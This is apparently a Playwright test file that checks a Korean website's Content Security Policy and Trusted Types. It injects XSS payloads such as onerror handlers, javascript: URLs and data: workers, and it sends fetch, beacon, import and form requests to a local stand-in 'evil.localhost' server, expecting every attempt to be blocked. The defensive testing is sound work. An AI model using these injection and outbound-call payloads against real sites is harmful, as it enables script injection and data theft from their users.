import { globSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { toPagePath } from '#contract/platform/page-path.ts'
import { dialog, expect, openAccountMenu, siteUrl, test } from '#tests/support/e2e.ts'

// The policy of each page, with Trusted Types, must block nothing that the site itself does, and all that others try.

const dist = new URL('../../dist', import.meta.url).pathname
const koreanPaths = globSync('**/*.html', { cwd: dist })
  .filter((file) => !/^(en|zh-CN|zh-TW)[/.]/.test(file))
  .map((file) => toPagePath(`/${file}`))

/** Collects violations of the policy on every page that is opened. */
async function collectViolations(page: Page): Promise<string[]> {
  const violations: string[] = []
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text))
  await page.addInitScript(() => {
    const { reportViolation } = window as unknown as { reportViolation(text: string): void }
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      reportViolation(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sample}`),
    )
  })
  return violations
}

/** Navigation is repeated: the previous page may be for visitors, and its redirect would interrupt it. */
const openPath = (page: Page, path: string) => expect(async () => void (await page.goto(path))).toPass()

async function openEveryPage(page: Page): Promise<void> {
  expect(koreanPaths.length).toBeGreaterThan(20)
  for (const path of koreanPaths) {
    await openPath(page, path)
    await expect(page.locator('h1').first()).toBeVisible()
    // An open event stream is no reason to wait.
    await page.waitForLoadState('load')
  }
}

test.describe.configure({ timeout: 180_000 })

/** One of each kind: home, form, guide, catalog, report behind a login, shared report, error, documentation. */
const kindsOfPages = [
  '/',
  '/login',
  '/guides/pc-upload',
  '/musics/all',
  '/dashboard',
  '/shared',
  '/nothing-here',
  '/api/docs',
]

/** Starts a server of another site. `calls`: the paths that browsers have asked it for. */
async function startOtherSite(html = '') {
  const calls: string[] = []
  const server = createServer((request, response) => {
    calls.push(request.url ?? '')
    response.setHeader('Content-Type', request.url?.endsWith('.js') ? 'text/javascript' : 'text/html')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end(request.url === '/frames' ? html : 'ran.push("script")')
  })
  await new Promise<void>((resolve) => server.listen(0, resolve))
  const origin = `http://evil.localhost:${(server.address() as AddressInfo).port}`
  const close = () => {
    server.closeAllConnections()
    return new Promise((resolve) => server.close(resolve))
  }
  return { origin, calls, close }
}

test('visitors meet no violation on any page', async ({ page }) => {
  const violations = await collectViolations(page)
  await openEveryPage(page)
  await page.goto('/login')
  await page.getByRole('button', { name: '로그인', exact: true }).click()
  expect(violations).toEqual([])
})

test.describe('as a manager', () => {
  test.use({ as: 'manager' })

  test('nor do people who are signed in', async ({ page }) => {
    const violations = await collectViolations(page)
    await openEveryPage(page)
    await openPath(page, '/dashboard')
    await expect(page.locator('.uplot canvas').first()).toBeVisible()
    await page.goto('/notices')
    await openAccountMenu(page)
    await page.getByRole('button', { name: '로그아웃' }).first().click()
    await expect(dialog(page)).toBeVisible()
    expect(violations).toEqual([])
  })

  test('nor while a screen loads slowly', async ({ page }) => {
    const violations = await collectViolations(page)
    await page.route(/\/_astro\/[^/]*(notices|musics)[^/]*\.js$/i, async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1_500))
      await route.continue()
    })
    for (const path of ['/notices', '/musics']) {
      await page.goto(path)
      await expect(page.locator('#main h1').first()).toBeVisible()
      await page.waitForLoadState('load')
    }
    expect(violations).toEqual([])
  })
})

test.describe('an injected script', () => {
  test.use({
    expectedErrors: /Trusted ?(Type|HTML|Script)|Content Security Policy|Not allowed to|'script-src'/,
  })

  test('can neither set text as HTML nor allow itself to', async ({ page }) => {
    await page.goto('/login')
    const errors = await page.evaluate(() => {
      const attempt = (work: () => void) => {
        try {
          work()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void }
      }
      const script = document.createElement('script')
      return [
        attempt(() => {
          document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">'
        }),
        attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>1</b>')),
        attempt(() => document.write('<b>1</b>')),
        attempt(() => void document.createRange().createContextualFragment('<b>1</b>')),
        attempt(() => void new DOMParser().parseFromString('<b>1</b>', 'text/html')),
        attempt(() => {
          document.createElement('iframe').srcdoc = '<b>1</b>'
        }),
        attempt(() => {
          script.src = '/sha512.js'
        }),
        attempt(() => {
          script.text = 'alert(1)'
        }),
        attempt(() => document.body.setAttribute('onclick', 'alert(1)')),
        attempt(() => void new Worker('/sha512.js')),
        attempt(() => trustedTypes.createPolicy('mine', {})),
        attempt(() => trustedTypes.createPolicy('default', {})),
      ]
    })
    expect(errors).toEqual(errors.map(() => 'TypeError'))
  })

  test('and markup run in no kind of page, and load nothing of another site', async ({ page }) => {
    const { origin, calls, close } = await startOtherSite()
    const inject = async (evil: string) => {
      const ran: string[] = []
      Object.assign(window, { ran })
      const add = (tag: string, properties: object, text = '') => {
        const element = Object.assign(document.createElement(tag), properties)
        element.append(text)
        document.body.append(element)
        return element
      }
      const attempts: (() => unknown)[] = [
        () => add('script', {}, 'ran.push("inline")'),
        () => add('script', { src: `${evil}/src.js` }),
        () => add('script', { src: 'data:text/javascript,ran.push("data")' }),
        () => add('button', {}).setAttribute('onclick', 'ran.push("handler")'),
        () => document.body.lastElementChild?.dispatchEvent(new MouseEvent('click')),
        () => add('div', { innerHTML: '<img src="x" onerror="ran.push(\'image\')">' }),
        () => add('iframe', { srcdoc: '<script>parent.ran.push("frame")</script>' }),
        () => add('iframe', { src: 'javascript:parent.ran.push("frame address")' }),
        () => add('iframe', { src: `${evil}/frame` }),
        () => add('object', { data: `${evil}/object` }),
        () => add('link', { rel: 'stylesheet', href: `${evil}/style` }),
        () => add('style', {}, `body { background: url(${evil}/background) }`),
        () => add('img', { src: `${evil}/picture` }),
        () => add('base', { href: `${evil}/base/` }),
        () => add('a', { href: 'javascript:ran.push("link")' }).click(),
        () => new Worker(`data:text/javascript,fetch("${evil}/worker")`),
        () => setTimeout('ran.push("timer")'),
        () => fetch(`${evil}/fetch`).catch(() => {}),
        () => new EventSource(`${evil}/events`),
        () => navigator.sendBeacon(`${evil}/beacon`),
        () => import(`${evil}/import.js`).catch(() => {}),
        // Last: it would leave the page.
        () => (add('form', { action: `${evil}/form`, method: 'post' }) as HTMLFormElement).submit(),
      ]
      for (const attempt of attempts)
        try {
          await attempt()
        } catch {
          // refused
        }
      await new Promise((resolve) => setTimeout(resolve, 500))
      return ran
    }
    for (const path of kindsOfPages) {
      await openPath(page, path)
      await page.waitForLoadState('load')
      const address = page.url()
      expect(await page.evaluate(inject, origin), path).toEqual([])
      expect(page.url()).toBe(address)
      expect(calls, path).toEqual([])
    }
    await close()
  })
})

test('a page that another site opens is out of its reach', async ({ page, context }) => {
  const { origin, close } = await startOtherSite()
  await page.goto(`${origin}/frames`)
  const isLost = async (url: string) => {
    const opening = context.waitForEvent('page')
    await page.evaluate((address) => Object.assign(window, { opened: window.open(address) }), url)
    const popup = await opening
    await popup.waitForURL((address) => address.href.startsWith(new URL(url).origin))
    const hasOpener = await popup.evaluate(() => window.opener !== null)
    const isSevered = await page.evaluate(() => (window as unknown as { opened: Window }).opened.closed)
    await popup.close()
    return isSevered && !hasOpener
  }
  for (const path of kindsOfPages) expect(await isLost(siteUrl().origin + path), path).toBe(true)
  expect(await isLost(`${origin}/itself`)).toBe(false)
  await close()
})

test.describe('in a frame', () => {
  test.use({ expectedErrors: /^Framing .* violates/ })

  test('of another site no kind of page shows up', async ({ page }) => {
    const pages = [...kindsOfPages, '/api/demo/mail'].map((path) => siteUrl().origin + path)
    const frames = [...pages, '/itself'].map((url) => `<iframe src="${url}"></iframe>`)
    const { origin, close } = await startOtherSite(frames.join(''))
    await page.goto(`${origin}/frames`)
    const read = () =>
      Promise.all(
        page
          .frames()
          .slice(1)
          .map((frame) => frame.evaluate(() => location.href)),
      )
    const blocked = 'chrome-error://chromewebdata/'
    await expect.poll(read).toEqual([...pages.map(() => blocked), `${origin}/itself`])
    await close()
  })
})
